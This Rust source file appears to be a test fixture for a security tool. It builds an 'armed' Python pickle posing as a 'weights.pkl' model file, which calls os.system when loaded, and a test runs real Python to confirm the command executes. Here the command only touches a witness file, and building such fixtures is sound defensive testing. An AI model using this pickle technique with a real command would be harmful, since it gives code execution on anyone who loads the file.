//! An armed pickle, as an attacker would write it.

use std::path::Path;

/// A pickle (protocol 2) that, if it were loaded, called `os.system` to make the file `witness`.
#[must_use]
pub fn that_touches(witness: &Path) -> Vec<u8> {
    let mut bytes = b"\x80\x02".to_vec();
    bytes.extend_from_slice(b"cos\nsystem\n");
    bytes.extend_from_slice(format!("(S'touch {}'\ntR.", witness.display()).as_bytes());
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What is not armed proves nothing: a real Python has to run it.
    // proves M2
    #[test]
    fn the_pickle_is_armed() {
        let folder = tempfile::tempdir().unwrap();
        let witness = folder.path().join("executed");
        let path = folder.path().join("weights.pkl");
        std::fs::write(&path, that_touches(&witness)).unwrap();
        let load = format!("import pickle; pickle.load(open('{}', 'rb'))", path.display());
        let Some(mut python) = needs::program("python3") else { return };
        python.args(["-c", &load]).status().unwrap();
        assert!(witness.exists());
    }
}
